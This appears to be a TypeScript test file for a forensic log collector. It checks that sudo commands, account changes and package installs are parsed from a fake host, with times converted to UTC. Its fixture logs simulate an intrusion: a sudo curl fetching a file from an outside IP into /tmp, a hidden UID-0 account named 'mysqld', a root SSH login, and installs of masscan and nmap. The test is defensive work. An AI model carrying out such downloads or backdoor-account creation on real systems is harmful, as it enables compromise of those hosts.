import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { RootHost } from '../../host/root-host';
import { FakeRoot } from '../../../test/helpers/fake-root';
import systemEvents from './system-events';
import { collectContext } from '../../../test/helpers/collect-context';

describe('systemEvents collector', () => {
  const root = new FakeRoot()
    .write('/etc/timezone', 'Asia/Shanghai\n')
    .write(
      '/var/log/auth.log',
      [
        'Nov 18 11:00:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://198.51.100.9/x',
        'Nov 18 11:01:00 web01 useradd[3160]: new user: name=mysqld, UID=0, GID=0, home=/home/mysqld, shell=/bin/bash, from=/dev/pts/0',
        'Nov 18 11:02:00 web01 passwd[3170]: pam_unix(passwd:chauthtok): password changed for mysqld',
        'Nov 18 11:03:00 web01 sshd[3180]: Accepted password for root from 198.51.100.9 port 1 ssh2',
        'Nov 18 11:04:00 web01 sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1001',
      ].join('\n'),
      { mtime: new Date('2026-11-19T00:00:00Z') },
    )
    .write(
      '/var/log/dpkg.log',
      '2026-11-18 11:05:00 status installed libc6:amd64 2.36\n2026-11-18 11:05:01 install masscan:amd64 <none> 2:1.3.2-1\n',
    )
    .write('/var/log/yum.log', 'Nov 18 11:06:00 Installed: nmap-7.92-1.x86_64\n', { mtime: new Date('2026-11-19T00:00:00Z') });
  after(() => root.remove());

  it('reads sudo commands, account changes and package installs in the target time zone', () => {
    const fact = systemEvents.collect(collectContext(new RootHost(root.dir)));
    assert.deepEqual(
      fact.events.map((e) => [e.time, e.kind, e.user ?? '', e.text]),
      [
        ['2026-11-18T03:00:00.000Z', 'sudo', 'alice', '/usr/bin/curl -o /tmp/x http://198.51.100.9/x'],
        [
          '2026-11-18T03:01:00.000Z',
          'account',
          'mysqld',
          'useradd: new user: name=mysqld, UID=0, GID=0, home=/home/mysqld, shell=/bin/bash, from=/dev/pts/0',
        ],
        ['2026-11-18T03:02:00.000Z', 'account', 'mysqld', 'passwd: pam_unix(passwd:chauthtok): password changed for mysqld'],
        ['2026-11-18T03:05:01.000Z', 'package', '', 'install masscan:amd64 2:1.3.2-1'],
        ['2026-11-18T03:06:00.000Z', 'package', '', 'installed nmap-7.92-1.x86_64'],
      ],
    );
  });
});
